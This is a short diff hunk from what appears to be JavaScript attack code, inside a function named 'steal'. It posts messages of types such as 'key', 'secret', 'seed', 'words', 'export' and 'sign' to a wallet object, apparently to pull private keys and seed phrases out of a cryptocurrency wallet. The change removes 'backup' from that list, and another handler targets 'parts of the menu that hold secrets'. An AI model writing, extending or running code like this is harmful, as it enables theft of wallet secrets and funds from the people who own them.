@@ -318,7 +318,7 @@ async function steal({ platform, good, seconds }) {
       ),
     'questions that nobody asks': () =>
       silent(() => {
-        for (const type of ['key', 'secret', 'seed', 'words', 'backup', 'export', 'sign', 'address'])
+        for (const type of ['key', 'secret', 'seed', 'words', 'export', 'sign', 'address'])
           wallet.postMessage(said({ type, good }), platform);
       }),
     'parts of the menu that hold secrets': () =>
